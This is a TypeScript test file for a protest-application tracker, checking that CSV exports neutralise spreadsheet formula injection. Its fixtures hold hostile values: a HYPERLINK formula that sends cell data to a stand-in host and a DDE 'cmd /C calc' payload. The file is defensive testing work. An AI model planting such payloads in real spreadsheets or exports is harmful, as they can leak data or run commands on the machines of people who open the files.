// A city or authority named like a spreadsheet formula reaches CSV files as text, never as a
// live formula: the anonymous statistics CSVs and a member's export both neutralise it, and
// the JSON export (the format that round-trips) keeps the name as typed.
import Papa from "papaparse";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { session } from "../support/session";
import { makeActor, makeGroup } from "../support/fixtures";

vi.mock("@/lib/auth/session", () => import("../support/session"));

import { db } from "@/lib/db";
import type { Actor } from "@/lib/auth/access";
import { loadReference } from "@/prisma/seed/reference";
import { toCsv } from "@/lib/csv";
import type { ExportDocument } from "@/lib/data/export";
import { GET as statsCsvGET } from "@/app/(public)/stats/csv/[table]/route";
import { GET as exportGET } from "@/app/api/v1/export/route";

const CITY = '=HYPERLINK("http://evil.example/?leak="&A1,"Almaty")';
const AUTHORITY = "@SUM(1+1)*cmd|' /C calc'!A0";
const NOTE = "+1 then\n=2 on the next line";
/** What a spreadsheet would run: a cell whose text starts with = + - @ tab or CR. */
const LIVE = /^[=+\-@\t\r]/;

let member: Actor;
let group: { id: string; slug: string };

beforeAll(async () => {
  await loadReference(db);
  group = await makeGroup("kazfem", "KazFem");
  member = await makeActor("Member", [[group.id, "viewer"]]);
  const authority = await db.authority.create({ data: { name: AUTHORITY, kind: "akimat", city: CITY } });
  const works = await db.refusalGround.findUniqueOrThrow({ where: { code: "works" } });
  const app = await db.application.create({
    data: {
      groupId: group.id,
      isPublic: true,
      title: "-Refused march",
      procedure: "approval",
      city: CITY,
      authorityId: authority.id,
      filedOn: "2024-02-20",
      notes: NOTE,
      organizers: { create: [{ groupId: group.id }] },
      parts: { create: [{ form: "march", eventDate: "2024-03-08", outcome: "refused" }] },
    },
    include: { parts: true },
  });
  await db.answer.create({
    data: {
      applicationId: app.id,
      receivedOn: "2024-02-25",
      statedReason: "\tworks",
      partOutcomes: { create: [{ partId: app.parts[0].id, outcome: "refused" }] },
      grounds: { create: [{ groundId: works.id }] },
    },
  });
});

beforeEach(() => {
  session.actor = null;
});

function cells(text: string): string[] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.flat();
}

describe("toCsv", () => {
  it("prefixes every formula-like text cell with ' and leaves numbers alone", () => {
    const text = toCsv([["=1+1", "+1", "-1", "@x", "\tx", "\rx", "=x\n=y", "plain", -5, 3]], { fields: ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"] });
    const [, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(row).toEqual(["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "'=x\n=y", "plain", "-5", "3"]);
  });
});

describe("the anonymous statistics CSVs", () => {
  for (const table of ["grounds-by-city", "grounds-by-authority"]) {
    it(`${table}: the hostile name is text, not a formula`, async () => {
      const res = await statsCsvGET(new Request(`http://x/stats/csv/${table}`), { params: Promise.resolve({ table }) });
      expect(res.status).toBe(200);
      const all = cells(await res.text());
      const name = table === "grounds-by-city" ? CITY : AUTHORITY;
      expect(all).toContain(`'${name}`);
      expect(all.filter((c) => LIVE.test(c))).toEqual([]);
    });
  }
});

describe("a member's export", () => {
  const req = (q: string) => new Request(`http://tracker.test/api/v1/export?group=${group.slug}&${q}`);

  for (const entity of ["applications", "authorities", "answers"]) {
    it(`${entity}.csv has no live formula`, async () => {
      session.actor = member;
      const res = await exportGET(req(`format=csv&entity=${entity}`));
      expect(res.status).toBe(200);
      const all = cells(await res.text());
      expect(all.filter((c) => LIVE.test(c))).toEqual([]);
      expect(all.some((c) => c.startsWith("'"))).toBe(true);
    });
  }

  it("keeps the names as typed in the JSON export, which is the one import reads", async () => {
    session.actor = member;
    const doc = (await (await exportGET(req("format=json"))).json()) as ExportDocument;
    expect(doc.entities.applications[0]).toMatchObject({ city: CITY, title: "-Refused march", notes: NOTE });
    expect(doc.entities.authorities[0]).toMatchObject({ name: AUTHORITY, city: CITY });
  });
});
